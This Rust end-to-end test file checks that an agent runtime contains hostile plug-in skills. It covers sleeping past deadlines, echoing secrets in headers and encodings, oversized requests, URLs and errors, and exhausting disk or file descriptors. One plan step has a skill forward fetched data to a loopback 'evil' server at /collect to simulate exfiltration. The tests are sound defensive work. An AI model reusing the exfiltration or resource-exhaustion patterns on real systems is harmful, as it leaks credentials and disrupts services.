//! What a hostile skill could still do before issue 10, end to end: a `describe()` parked
//! in a sleep, a secret echoed back in a header name or an encoding, an unbounded trace
//! (refused 40 MB requests, a 20 MB URL, a 30 MB error), unbounded scratch use, and a
//! `describe()` too large to store. For each: nothing reaches where it should not (the
//! loopback servers log every request), no secret value is in any stored step in any
//! encoding (SQL scan), the runtime survives, the run fails with a reason naming the
//! limit, and its proof is VERIFIED.

mod support;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use support::*;

// ---------------------------------------------------------------------------------------
// A loopback server that logs every request whole (head and body) and answers with a
// handler's raw response bytes.

type Handler = dyn Fn(&[u8]) -> Vec<u8> + Send + Sync;

struct LoggingServer {
    port: u16,
    log: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl LoggingServer {
    fn start(handler: Arc<Handler>) -> LoggingServer {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let port = listener.local_addr().unwrap().port();
        let log = Arc::new(Mutex::new(Vec::new()));
        let l = log.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (l, handler) = (l.clone(), handler.clone());
                std::thread::spawn(move || {
                    let _ = serve(stream, &l, &*handler);
                });
            }
        });
        LoggingServer { port, log }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    fn requests(&self) -> Vec<Vec<u8>> {
        self.log.lock().unwrap().clone()
    }
}

fn serve(stream: TcpStream, log: &Mutex<Vec<Vec<u8>>>, handler: &Handler) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut raw = Vec::new();
    let mut content_length = 0usize;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 {
            break;
        }
        raw.extend_from_slice(line.as_bytes());
        if line == "\r\n" {
            break;
        }
        if let Some((k, v)) = line.split_once(':')
            && k.eq_ignore_ascii_case("content-length")
        {
            content_length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; content_length.min(64 << 20)];
    reader.read_exact(&mut body)?;
    raw.extend_from_slice(&body);
    log.lock().unwrap().push(raw.clone());
    let mut s = stream;
    s.write_all(&handler(&raw))?;
    s.flush()
}

fn response(status_line: &str, headers: &[(String, String)], body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "HTTP/1.1 {status_line}\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (k, v) in headers {
        r.push_str(&format!("{k}: {v}\r\n"));
    }
    r.push_str("\r\n");
    let mut bytes = r.into_bytes();
    bytes.extend_from_slice(body);
    bytes
}

// ---------------------------------------------------------------------------------------
// Helpers.

fn set_secret(tenant: &str, name: &str, value: &str, hosts: &[&str]) {
    let mut args = vec!["secret", "set", name, "--tenant-id", tenant];
    for h in hosts {
        args.extend(["--allow-host", h]);
    }
    let mut child = runtime_cmd()
        .args(&args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(value.as_bytes())
        .unwrap();
    let r: Run = child.wait_with_output().unwrap().into();
    r.ok();
}

fn verified(run_id: &str, tenant: &str) {
    let (code, p) = proof(run_id, tenant);
    assert_eq!(code, 0, "{p}");
    assert_eq!(p["integrity"]["verification_status"], "VERIFIED", "{p}");
}

fn hostile_plan(action: &str, arg: &str) -> Value {
    json!({"planner": "e2e", "steps": [
        {"step_id": "attack", "skill": "hostile", "params": {"action": action, "arg": arg}}
    ]})
}

/// Runs one hostile action for an agent with `flags`; expects a failed run (exit 3) whose
/// error names `reason`, VERIFIED; returns (run_id, report, stored payloads).
async fn failed_hostile_run(
    name: &str,
    flags: &[&str],
    action: &str,
    arg: &str,
    reason: &str,
) -> (String, Value, Vec<Vec<u8>>) {
    add_test_skill("hostile");
    let tenant = tenant(name);
    let agent_id = agent_with(&tenant, flags);
    let r = run_plan(&agent_id, &tenant, &hostile_plan(action, arg));
    assert_eq!(r.code, 3, "the runtime survives and fails the run: {r:?}");
    let report = r.json();
    assert_eq!(report["status"], "failed");
    let error = report["error_message"].as_str().unwrap_or_default();
    assert!(
        error.contains(reason),
        "run error {error:?} should name {reason:?}"
    );
    let run_id = report["run_id"].as_str().unwrap().to_string();
    verified(&run_id, &tenant);
    let payloads = stored_payloads(&run_id).await;
    (run_id, report, payloads)
}

/// Seconds since the epoch.
fn now_secs() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

/// Waits for the start of the next ten-second window whose parity is `odd` (the `sleepy`
/// fixture sleeps in `describe` during odd windows).
fn wait_for_window(odd: bool) {
    loop {
        let s = now_secs();
        if (s / 10) % 2 == u64::from(odd) && s.is_multiple_of(10) {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

// ---------------------------------------------------------------------------------------
// describe() is bounded.

#[tokio::test]
async fn a_describe_parked_in_a_sleep_is_cut_off_at_add_and_fails_a_recorded_run() {
    let path = test_skill_path("sleepy");
    let path = path.to_str().unwrap();

    // At `skill add`: refused within the bound, naming it; nothing stored.
    wait_for_window(true);
    let started = Instant::now();
    let r = runtime(&["skill", "add", "--replace", path]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr.contains("describe") && r.stderr.contains("deadline of 5000 ms exceeded"),
        "{}",
        r.stderr
    );
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "cut off, not hung"
    );

    // It passes when it answers...
    wait_for_window(false);
    runtime(&["skill", "add", "--replace", path]).ok();
    // ...and a later run, whose load finds it asleep, is a recorded, failed run.
    let tenant = tenant("sleepy");
    let agent_id = agent_with(&tenant, &[]);
    let plan = json!({"planner": "e2e", "steps": [
        {"step_id": "nap", "skill": "sleepy", "params": {}}
    ]});
    wait_for_window(true);
    let started = Instant::now();
    let r = run_plan(&agent_id, &tenant, &plan);
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "cut off, not hung"
    );
    assert_eq!(r.code, 3, "a failed run, not a refusal: {r:?}");
    let report = r.json();
    let error = report["error_message"].as_str().unwrap();
    assert!(
        error.contains("could not be loaded") && error.contains("deadline of 5000 ms exceeded"),
        "{error}"
    );
    assert_eq!(report["steps"][0]["status"], "skipped");
    let run_id = report["run_id"].as_str().unwrap();
    verified(run_id, &tenant);
    let steps = step_bodies(run_id).await;
    let end = steps
        .iter()
        .find(|(k, _, b)| k == "skill.end" && b["phase"] == "describe")
        .expect("the stopped describe is a recorded step");
    assert_eq!(end.1, "failure");
    assert_eq!(end.2["outcome"], "aborted");
    assert!(steps[0].2["skills"]["sleepy"]["load_error"].is_string());
    // Nothing of the skill ran.
    assert!(!steps.iter().any(|(k, _, _)| k == "host.log"));
}

#[tokio::test]
async fn an_invoke_parked_in_a_sleep_hits_the_deadline() {
    let started = Instant::now();
    let (_, _, payloads) = failed_hostile_run(
        "sleep",
        &["--timeout", "1s"],
        "sleep",
        "3600",
        "deadline of 1000 ms exceeded",
    )
    .await;
    assert!(started.elapsed() < Duration::from_secs(60));
    assert!(!payloads.is_empty());
}

#[tokio::test]
async fn an_oversized_describe_is_refused_with_one_line() {
    let path = test_skill_path("bloated");
    let r = runtime(&["skill", "add", path.to_str().unwrap()]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr
            .contains("its description is 31457280 bytes, over the cap of 4096 bytes"),
        "{}",
        r.stderr
    );
    assert_eq!(r.stderr.lines().count(), 1, "{}", r.stderr);
    assert!(r.stderr.len() < 1024);
    let listed = runtime(&["--json", "skill", "list"]).ok().json();
    assert!(
        !listed
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["name"] == "bloated"),
        "nothing stored"
    );
}

// ---------------------------------------------------------------------------------------
// No secret through any part of a response.

/// Every spelling of `value` a leak could take.
fn leak_forms(value: &str) -> Vec<String> {
    let json = serde_json::to_string(value).unwrap();
    let ascii_json: String = value
        .chars()
        .map(|c| match c {
            '"' => "\\\"".to_string(),
            c if c.is_ascii() => c.to_string(),
            c => c
                .encode_utf16(&mut [0u16; 2])
                .iter()
                .map(|u| format!("\\u{u:04x}"))
                .collect(),
        })
        .collect();
    vec![
        value.to_string(),
        json[1..json.len() - 1].to_string(),
        ascii_json,
        STANDARD_NO_PAD.encode(value),
        URL_SAFE_NO_PAD.encode(value),
        hex::encode(value),
        hex::encode(value).to_ascii_uppercase(),
        url::form_urlencoded::byte_serialize(value.as_bytes()).collect(),
    ]
}

fn assert_no_leak(what: &str, haystack: &[u8], values: &[&str]) {
    // In any ASCII case too: header names arrive lowercased.
    let lowered = haystack.to_ascii_lowercase();
    for v in values {
        let low = v.to_ascii_lowercase();
        assert!(
            !lowered.windows(low.len()).any(|w| w == low.as_bytes()),
            "{what} holds the secret in some case"
        );
    }
    for v in values {
        for form in leak_forms(v) {
            assert!(
                !haystack.windows(form.len()).any(|w| w == form.as_bytes()),
                "{what} holds the secret as {form:?}: {}",
                String::from_utf8_lossy(&haystack[..haystack.len().min(4000)])
            );
        }
    }
}

#[tokio::test]
async fn a_secret_echoed_in_any_part_of_a_response_reaches_neither_skill_nor_step() {
    add_test_skill("probe");
    // TOKEN fits in a header name; OTHER needs JSON escaping and percent-encoding.
    const TOKEN: &str = "Zq8s3cr3tV4lue7Xk";
    const OTHER: &str = "\u{fc}n\u{ef}\"c\u{f8}d\u{e9}/s3cr3t+v4l";
    let echo = LoggingServer::start(Arc::new(|raw: &[u8]| {
        let text = String::from_utf8_lossy(raw).into_owned();
        let header = |name: &str| {
            text.lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case(name).then(|| v.trim().to_string())
                })
                .unwrap_or_default()
        };
        let token = header("authorization")
            .trim_start_matches("Bearer ")
            .to_string();
        let other = header("x-other");
        let pct: String = url::form_urlencoded::byte_serialize(other.as_bytes()).collect();
        // Python's `ensure_ascii`: the JSON text spells every non-ASCII character `\uXXXX`.
        let ascii_json: String = serde_json::to_string(&other)
            .unwrap()
            .chars()
            .map(|c| {
                if c.is_ascii() {
                    c.to_string()
                } else {
                    format!("\\u{:04x}", c as u32)
                }
            })
            .collect();
        let body = json!({
            "json": other,
            "b64": STANDARD.encode(&other),
            "b64url": URL_SAFE.encode(&other),
            "hex": hex::encode(&other),
            "pct": pct,
            "basic": STANDARD.encode(format!("user:{token}")),
        });
        let body = format!("{{\"ascii_json\":{ascii_json},{}", &body.to_string()[1..]);
        response(
            &format!("200 OK {token}"),
            &[
                (format!("x-echo-{token}"), "1".into()),
                (token.clone(), "name".into()),
                ("x-b64".into(), STANDARD.encode(&token)),
                ("x-hex".into(), hex::encode(&token)),
                ("location".into(), format!("/next?t={pct}")),
            ],
            body.as_bytes(),
        )
    }));
    let evil = LoggingServer::start(Arc::new(|_: &[u8]| response("200 OK", &[], b"thanks")));
    // A redirect to another origin: literal credentials the skill set must not follow it.
    let target = LoggingServer::start(Arc::new(|_: &[u8]| response("200 OK", &[], b"landed")));
    let target_url = target.url("/landing");
    let redirector = LoggingServer::start(Arc::new(move |_: &[u8]| {
        response("302 Found", &[("location".into(), target_url.clone())], b"")
    }));

    let tenant = tenant("echo-encodings");
    let echo_origin = format!("http://127.0.0.1:{}", echo.port);
    set_secret(&tenant, "TOKEN", TOKEN, &[&echo_origin]);
    set_secret(&tenant, "OTHER", OTHER, &[&echo_origin]);
    let r = runtime(&[
        "--json",
        "agent",
        "create",
        "--name",
        "echo",
        "--tenant-id",
        &tenant,
        "--allow-host",
        "http://127.0.0.1:*",
        "--allow-secret",
        "TOKEN",
        "--allow-secret",
        "OTHER",
    ])
    .ok();
    let agent_id = r.json()["agent_id"].as_str().unwrap().to_string();
    let ask = json!({"url": echo.url("/echo"), "follow_redirects": false, "headers": [
        ["authorization", "Bearer {{secret:TOKEN}}"], ["x-other", "{{secret:OTHER}}"]]});
    let hop = json!({"url": redirector.url("/go"), "headers": [
        ["Authorization", "Bearer literal-credential-123"], ["Cookie", "sid=literal-cookie-456"],
        ["Proxy-Authorization", "Basic literal-proxy-789"], ["x-keep", "kept"]]});
    let plan = json!({"planner": "e2e", "steps": [
        {"step_id": "ask", "skill": "probe", "output_key": "echo", "params": {"actions": [format!("request:{ask}")]}},
        // The skill sends on everything it got, to a host outside the secrets' scope.
        {"step_id": "forward", "skill": "http_call", "depends_on": ["ask"],
         "params": {"url": evil.url("/collect"), "method": "POST", "body": "{{ echo.results }}"}},
        {"step_id": "hop", "skill": "probe", "params": {"actions": [format!("request:{hop}")]}},
    ]});
    let r = run_plan(&agent_id, &tenant, &plan);
    assert_eq!(r.code, 0, "{r:?}");
    let report = r.json();
    let run_id = report["run_id"].as_str().unwrap();
    verified(run_id, &tenant);

    // The echo server saw the values (that is where they may go), in headers only.
    let echoed = echo.requests();
    assert_eq!(echoed.len(), 1);
    assert!(String::from_utf8_lossy(&echoed[0]).contains(TOKEN));
    // What the skill got back is redacted everywhere: it forwarded all of it.
    let got = &report["steps"][0]["output"]["results"][0];
    assert!(got.to_string().contains("[REDACTED:TOKEN]"), "{got}");
    assert!(got.to_string().contains("[REDACTED:OTHER]"), "{got}");
    let forwarded = evil.requests();
    assert_eq!(forwarded.len(), 1, "the skill did forward what it got");
    assert!(String::from_utf8_lossy(&forwarded[0]).contains("REDACTED"));
    assert_no_leak("the forwarded request", &forwarded[0], &[TOKEN, OTHER]);
    assert_no_leak("the run report", r.stdout.as_bytes(), &[TOKEN, OTHER]);
    // No stored step holds a value, in any encoding.
    for p in stored_payloads(run_id).await {
        assert_no_leak("a stored step", &p, &[TOKEN, OTHER]);
    }
    let db = superuser().await;
    let n: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM aos_trace_steps WHERE run_id = $1 AND (position($2::bytea IN payload) > 0 OR position($3::bytea IN payload) > 0)",
    )
    .bind(run_id)
    .bind(TOKEN.as_bytes())
    .bind(hex::encode(TOKEN).as_bytes())
    .fetch_one(&db)
    .await
    .unwrap();
    assert_eq!(n, 0, "SQL scan of the payloads");
    db.close().await;

    // The cross-origin redirect reached its target without any credential header.
    let landed = target.requests();
    assert_eq!(landed.len(), 1);
    let landed = String::from_utf8_lossy(&landed[0]).to_ascii_lowercase();
    assert!(landed.contains("x-keep: kept"), "{landed}");
    for gone in ["authorization", "cookie", "literal-"] {
        assert!(!landed.contains(gone), "{gone} crossed origins: {landed}");
    }
    assert!(
        String::from_utf8_lossy(&redirector.requests()[0]).contains("literal-credential-123"),
        "the origin the skill named got its own credentials"
    );
}

// ---------------------------------------------------------------------------------------
// A bounded trace.

#[tokio::test]
async fn refused_40_mb_requests_are_recorded_as_size_digest_and_prefix() {
    let server = LoggingServer::start(Arc::new(|_: &[u8]| response("200 OK", &[], b"ok")));
    let size = 40 << 20;
    let (_, _, payloads) = failed_hostile_run(
        "big-requests",
        &[
            "--max-memory",
            "256MiB",
            "--allow-host",
            "http://127.0.0.1:*",
        ],
        "big_requests",
        &format!("{size}x8@{}", server.url("/upload")),
        "exceeds the cap of 4194304 bytes (max_request_body)",
    )
    .await;
    assert!(server.requests().is_empty(), "nothing was sent");
    let total: usize = payloads.iter().map(Vec::len).sum();
    assert!(total < 256 << 10, "the trace is {total} bytes");
    let sha = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(vec![b'A'; size]));
    let http: Vec<Value> = payloads
        .iter()
        .map(|p| serde_json::from_slice::<Value>(p).unwrap())
        .filter(|v| v["kind"] == "host.http")
        .collect();
    assert_eq!(http.len(), 8);
    for step in &http {
        let digest = &step["body"]["request"]["body"]["digest"];
        assert_eq!(digest["size"], size, "{step}");
        assert_eq!(digest["sha256"], sha);
        assert!(digest["prefix"]["text"].as_str().unwrap().len() <= 256);
        assert_eq!(step["body"]["error"]["code"], "too-large");
    }
}

#[tokio::test]
async fn a_20_mb_url_is_refused_and_recorded_once_as_a_digest() {
    let (_, _, payloads) = failed_hostile_run(
        "big-url",
        &["--max-memory", "256MiB"],
        "big_url",
        &(20 << 20).to_string(),
        "max_url_bytes",
    )
    .await;
    let http: Vec<Value> = payloads
        .iter()
        .map(|p| serde_json::from_slice::<Value>(p).unwrap())
        .filter(|v| v["kind"] == "host.http")
        .collect();
    assert_eq!(http.len(), 1);
    assert_eq!(
        http[0]["body"]["request"]["url"]["digest"]["size"],
        20 << 20
    );
    let message = http[0]["body"]["error"]["message"].as_str().unwrap();
    assert!(
        !message.contains("aaaa"),
        "the URL is not repeated: {message}"
    );
    assert!(payloads.iter().all(|p| p.len() < 16 << 10));
}

#[tokio::test]
async fn a_30_mb_skill_error_is_capped_everywhere() {
    let (run_id, report, payloads) = failed_hostile_run(
        "big-error",
        &["--max-memory", "256MiB"],
        "big_error",
        &(30 << 20).to_string(),
        "big: EEEE",
    )
    .await;
    let error = report["error_message"].as_str().unwrap();
    assert!(
        error.len() < 5 << 10,
        "runs.error_message is {} bytes",
        error.len()
    );
    assert!(
        error.contains("more bytes cut"),
        "{}",
        &error[error.len() - 80..]
    );
    assert!(payloads.iter().all(|p| p.len() < 16 << 10));
    let db = superuser().await;
    let stored: String = sqlx::query_scalar("SELECT error_message FROM runs WHERE id = $1")
        .bind(&run_id)
        .fetch_one(&db)
        .await
        .unwrap();
    db.close().await;
    assert!(stored.len() < 5 << 10);
}

// ---------------------------------------------------------------------------------------
// Scratch quotas.

#[tokio::test]
async fn scratch_bytes_quota_stops_a_disk_filler() {
    let (run_id, _, _) = failed_hostile_run(
        "scratch-bytes",
        &["--scratch-dir", "--scratch-max-bytes", "4MiB"],
        "scratch_fill",
        "64",
        "scratch quota of 4 MiB written reached",
    )
    .await;
    assert!(!home().join("scratch").join(&run_id).exists());
}

#[tokio::test]
async fn scratch_files_quota_stops_a_file_creator() {
    failed_hostile_run(
        "scratch-files",
        &["--scratch-dir", "--scratch-max-files", "50"],
        "scratch_files",
        "10000",
        "scratch quota of 50 files created reached",
    )
    .await;
}

#[tokio::test]
async fn descriptor_quota_stops_a_skill_opening_files_and_the_trace_stays_provable() {
    failed_hostile_run(
        "scratch-fds",
        &["--scratch-dir", "--scratch-max-open-files", "8"],
        "scratch_fds",
        "100000",
        "open file limit of 8 descriptors reached",
    )
    .await;
    // With the default quota too: the skill is stopped long before the process's own
    // descriptors run out, so the trace writer still writes and the proof verifies.
    failed_hostile_run(
        "scratch-fds-default",
        &["--scratch-dir"],
        "scratch_fds",
        "100000",
        "open file limit of 32 descriptors reached",
    )
    .await;
}

#[test]
fn scratch_quota_grants_above_the_ceiling_are_refused() {
    let tenant = tenant("scratch-ceiling");
    let r = runtime(&[
        "agent",
        "create",
        "--name",
        "x",
        "--tenant-id",
        &tenant,
        "--scratch-dir",
        "--scratch-max-open-files",
        "100000",
    ]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr.contains("above the runtime's ceiling of 256"),
        "{}",
        r.stderr
    );
    let r = runtime(&[
        "agent",
        "create",
        "--name",
        "x",
        "--tenant-id",
        &tenant,
        "--scratch-max-files",
        "5",
    ]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("need --scratch-dir"), "{}", r.stderr);
}
